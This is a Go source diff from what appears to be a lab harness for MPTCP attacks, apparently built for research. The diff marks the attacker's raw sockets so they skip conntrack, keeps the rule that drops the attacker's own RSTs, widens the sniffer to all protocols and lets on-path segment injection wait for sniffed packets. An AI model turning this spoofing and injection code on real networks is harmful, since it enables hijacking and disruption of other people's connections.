@@ -286,6 +286,15 @@ func (r *Run) openSender() (sender, error) {
 		if err != nil {
 			return err
 		}
+		// Marked for onPathRules (harmless where there are none).
+		if rc, err := pc.(*net.IPConn).SyscallConn(); err == nil {
+			var serr error
+			_ = rc.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_MARK, attackMark) })
+			if serr != nil {
+				pc.Close()
+				return fmt.Errorf("SO_MARK: %w", serr)
+			}
+		}
 		s.c, err = ipv4.NewRawConn(pc)
 		if err != nil {
 			pc.Close()
@@ -305,7 +314,10 @@ func (r *Run) openSender() (sender, error) {
 func (r *Run) openSniffer() (*os.File, error) {
 	var f *os.File
 	err := r.lab.Do(r.cfg.Attacker, func() error {
-		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_IP)))
+		// ETH_P_ALL, not ETH_P_IP: only taps of every protocol see the
+		// packets a node sends (forwarded ones after its NAT); frames
+		// that are not IPv4 fail to parse and are skipped.
+		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
 		if err != nil {
 			return err
 		}
@@ -322,28 +334,45 @@ func (r *Run) openSniffer() (*os.File, error) {
 
 func htons(v uint16) uint16 { return v<<8 | v>>8 }
 
-// dropOwnRSTs keeps the attacker node's kernel from resetting the joins
-// the attacker opens from its own address (it has no socket for them): an
-// nftables output rule dropping locally generated RSTs, removed by Stop.
-func (r *Run) dropOwnRSTs() error {
+// attackMark marks the attacker's own packets (SO_MARK) for its nftables
+// rules.
+const attackMark = 0x4d50
+
+// onPathRules installs the attacker node's nftables table, removed by
+// Stop: its marked packets skip conntrack (a relay's NAT would otherwise
+// treat an injected segment as a new connection clashing with the one it
+// translates and rewrite its port), and with dropRST the node's kernel does
+// not reset the joins the attacker opens from its own address (no socket
+// owns them).
+func (r *Run) onPathRules(dropRST bool) error {
 	return r.lab.Do(r.cfg.Attacker, func() error {
 		c, err := nftables.New()
 		if err != nil {
 			return err
 		}
 		t := c.AddTable(&nftables.Table{Family: nftables.TableFamilyIPv4, Name: "mpdetour_attack"})
-		ch := c.AddChain(&nftables.Chain{Name: "out", Table: t, Type: nftables.ChainTypeFilter,
-			Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityFilter})
-		c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: []expr.Any{
-			&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
-			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
-			&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
-			&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.RST}, Xor: []byte{0}},
-			&expr.Cmp{Op: expr.CmpOpNeq, Register: 1, Data: []byte{0}},
-			&expr.Verdict{Kind: expr.VerdictDrop},
+		raw := c.AddChain(&nftables.Chain{Name: "raw", Table: t, Type: nftables.ChainTypeFilter,
+			Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityRaw})
+		mark := binary.NativeEndian.AppendUint32(nil, attackMark)
+		c.AddRule(&nftables.Rule{Table: t, Chain: raw, Exprs: []expr.Any{
+			&expr.Meta{Key: expr.MetaKeyMARK, Register: 1},
+			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: mark},
+			&expr.Notrack{},
 		}})
+		if dropRST {
+			ch := c.AddChain(&nftables.Chain{Name: "out", Table: t, Type: nftables.ChainTypeFilter,
+				Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityFilter})
+			c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: []expr.Any{
+				&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
+				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
+				&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
+				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.RST}, Xor: []byte{0}},
+				&expr.Cmp{Op: expr.CmpOpNeq, Register: 1, Data: []byte{0}},
+				&expr.Verdict{Kind: expr.VerdictDrop},
+			}})
+		}
 		if err := c.Flush(); err != nil {
-			return fmt.Errorf("nftables rule: %w", err)
+			return fmt.Errorf("nftables rules: %w", err)
 		}
 		node := r.cfg.Attacker
 		r.cleanup = append(r.cleanup, func() {
@@ -393,7 +422,7 @@ func (r *Run) startAttack(ctx context.Context) error {
 		if err != nil {
 			return err
 		}
-		if err := r.dropOwnRSTs(); err != nil {
+		if err := r.onPathRules(true); err != nil {
 			return fmt.Errorf("attack: %w", err)
 		}
 		own := r.lab.Addr(r.cfg.Attacker)
@@ -434,7 +463,7 @@ func (r *Run) startAttack(ctx context.Context) error {
 		r.wg.Add(1)
 		go r.paced(ctx, func() error {
 			if !have.Load() {
-				return nil
+				return errNothing
 			}
 			return s.send(&mptcpwire.Segment{
 				Src: own, Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
@@ -448,6 +477,9 @@ func (r *Run) startAttack(ctx context.Context) error {
 		s, err := r.openSender()
 		if err != nil {
 			return err
+		}
+		if err := r.onPathRules(false); err != nil {
+			return fmt.Errorf("attack: %w", err)
 		}
 		sn, err := r.openSniffer()
 		if err != nil {
@@ -471,7 +503,7 @@ func (r *Run) startAttack(ctx context.Context) error {
 			seg := last
 			mu.Unlock()
 			if seg == nil {
-				return nil
+				return errNothing
 			}
 			// An ACK of the same connection, in window: the sniffed
 			// segment's sequence number past its data, its ACK and
@@ -507,6 +539,9 @@ func (r *Run) startAttack(ctx context.Context) error {
 	return fmt.Errorf("attack: kind %q not implemented", r.cfg.Kind)
 }
 
+// errNothing: an on-path attack has nothing to send yet.
+var errNothing = errors.New("nothing to send yet")
+
 func findKind(opts []mptcpwire.Option, kind uint8) (mptcpwire.Option, bool) {
 	for _, o := range opts {
 		if o.Kind == kind {
@@ -517,7 +552,9 @@ func findKind(opts []mptcpwire.Option, kind uint8) (mptcpwire.Option, bool) {
 }
 
 // paced calls send Rate times per second (in batches every 10 ms) until
-// ctx ends. Send errors other than a full buffer end the attack.
+// ctx ends; send returns errNothing when it had nothing to send yet (an
+// on-path attack before it saw what it needs). Send errors other than a
+// full buffer end the attack.
 func (r *Run) paced(ctx context.Context, send func() error) {
 	defer r.wg.Done()
 	tick := time.NewTicker(10 * time.Millisecond)
@@ -533,7 +570,7 @@ func (r *Run) paced(ctx context.Context, send func() error) {
 		due := uint64(time.Since(start).Seconds() * float64(r.cfg.Rate))
 		for ; done < due; done++ {
 			if err := send(); err != nil {
-				if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
+				if errors.Is(err, errNothing) || errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
 					continue
 				}
 				if ctx.Err() == nil {
